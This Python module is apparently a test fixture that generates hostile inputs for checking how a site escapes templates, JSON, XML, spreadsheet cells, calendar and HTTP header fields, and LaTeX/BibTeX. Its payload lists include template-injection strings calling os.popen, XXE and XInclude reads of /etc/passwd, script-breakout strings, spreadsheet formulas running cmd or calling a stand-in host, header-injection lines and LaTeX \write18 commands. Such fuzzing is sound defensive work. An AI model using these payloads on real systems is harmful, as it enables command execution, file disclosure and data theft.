"""What breaks out of files that are no pages: templates, JSON, XML, tables, calendars, citations, headers."""

from collections.abc import Iterator
from itertools import product

from tests.hostile.payloads.markup import CALL

_EXPRESSIONS = (
    "7*7",
    "config",
    "self.__init__.__globals__",
    "''.__class__.__mro__[1].__subclasses__()",
    "cycler.__init__.__globals__.os.popen('id').read()",
    "page.__class__",
    "site|pprint",
    "range(999999999)|list",
    f"constructor.constructor('{CALL}')()",
)
_TEMPLATES = (
    "{{{{{0}}}}}",
    "{{% print({0}) %}}",
    "${{{0}}}",
    "#{{{0}}}",
    "<%= {0} %>",
    "{{{{{0}|safe}}}}",
    "@({0})",
)
_STATEMENTS = (
    "{% include '/etc/passwd' %}",
    "{% extends 'base.html' %}",
    "{% import 'os' as os %}",
    "{% raw %}",
    "{% endraw %}",
    "{% endblock %}",
    "{% if %}",
    "{# comment",
    "#}",
    "{{",
    "}}",
    "{%",
    "%}",
    "{{ undefined.attribute }}",
    "{{ page.head.title }}",
    "{% for x in range(9**9) %}x{% endfor %}",
)
_JSON = (
    "</script><script>{call}</script>",
    "</SCRIPT\t><script>{call}</script>",
    "<!--<script>",
    "<!--</script>-->",
    '"}}]}};{call};//',
    '","headline":"planted',
    "\\",
    '\\"',
    "\\u0022",
    "\u2028{call}\u2029",
    "__proto__",
    '{{"__proto__":{{"a":1}}}}',
    "NaN",
    "-Infinity",
    "1e999",
    "'+{call}+'",
)
_XML = (
    "]]>",
    "]]><script>{call}</script>",
    "<![CDATA[",
    "<![CDATA[x]]>",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&xxe;",
    "%xxe;",
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
    '<!DOCTYPE x [<!ENTITY a "a"><!ENTITY b "&a;&a;">]>&b;',
    '<?xml version="1.0"?>',
    "<?php echo 1 ?>",
    "</title></entry></feed>",
    "</content><entry><title>planted</title></entry>",
    '" xmlns:x="planted',
    "<xi:include href='file:///etc/passwd'/>",
    "<xsl:value-of select='system-property(\"x\")'/>",
    "<data key='n-label'>planted</data>",
    "</node><node id='planted'/>",
    "-->",
    "--",
    "<!--",
    "&#0;",
    "&#x1F;",
    "&#xD800;",
    "&nbsp;",
    "&",
    "&amp;amp;",
)
_FORMULAS = ("=", "+", "-", "@", "\t=", " =", "＝", "＠", "'=", '"=', ",=", "\n=", ";=")  # noqa: RUF001
_COMMANDS = (
    "cmd|'/c calc'!A1",
    'HYPERLINK("http://planted.invalid/?x="&A1,"here")',
    'IMPORTXML("http://planted.invalid/","//a")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    "1+1",
    'WEBSERVICE("http://planted.invalid/")',
    "A1:A9",
)
_ENDS = ("\n", "\\n", "\u0085", "\u2028", "\u2029", "\x0b", "\x0c", "%0d%0a", "\r\n", "\r")
_FIELDS = (
    "END:VEVENT",
    "BEGIN:VALARM",
    "ATTACH:http://planted.invalid/a",
    "ATTENDEE:mailto:a@planted.invalid",
    "Set-Cookie: a=b",
    "Content-Type: text/html",
    "Location: http://planted.invalid/",
    "ER  - ",
    "TY  - NEWS",
    "UR  - http://planted.invalid/",
    "@misc{planted,",
    "User-agent: *",
    "Sitemap: http://planted.invalid/",
    " folded",
)
_LATEX = (
    "\\input{/etc/passwd}",
    "\\write18{id}",
    "\\immediate\\write18{id}",
    "\\def\\x{\\x\\x}\\x",
    "\\openout1=a",
    "\\href{javascript:planted(1)}{x}",
    "\\begin{filecontents}{a}",
    "\\catcode`\\%=12",
    "}, url = {http://planted.invalid/",
    "}}",
    "{{",
    "}\n}\n@article{planted,",
    '" # "x',
    "%",
    "$x$",
    "a_b^c~d#e&f",
    "@string{x = {y}}",
    "@comment{",
    " and others",
    "a and b and c",
    "{\\bf x}",
    "\\",
    "\\\\",
)
_TABLE = (
    '"',
    '""',
    '","',
    '";"',
    '"\n"',
    "a,b",
    "a;b",
    "a|b",
    "a\tb",
    "'",
    "=1",
    "\\N",
    "NULL",
    "-1",
    "-1.5",
    "+1",
    "1e5",
)


def templates() -> Iterator[str]:
    """What a template language would work out."""
    yield from (form.format(one) for form, one in product(_TEMPLATES, _EXPRESSIONS))
    yield from _STATEMENTS


def data() -> Iterator[str]:
    """Ends of JSON, of script blocks, of XML and of feeds."""
    yield from (form.replace("{{", "{").replace("}}", "}").replace("{call}", CALL) for form in _JSON)
    yield from (form.replace("{call}", CALL) for form in _XML)


def tables() -> Iterator[str]:
    """What a spreadsheet takes for a formula or for the end of a cell."""
    yield from (f"{start}{command}" for start, command in product(_FORMULAS, _COMMANDS))
    yield from _TABLE


def lines() -> Iterator[str]:
    """Line ends that begin a field of a calendar, a reference, a header, a list of rules."""
    yield from (f"words{end}{field}" for end, field in product(_ENDS, _FIELDS))


def latex() -> Iterator[str]:
    """What LaTeX runs, and what ends an entry of BibTeX."""
    yield from _LATEX
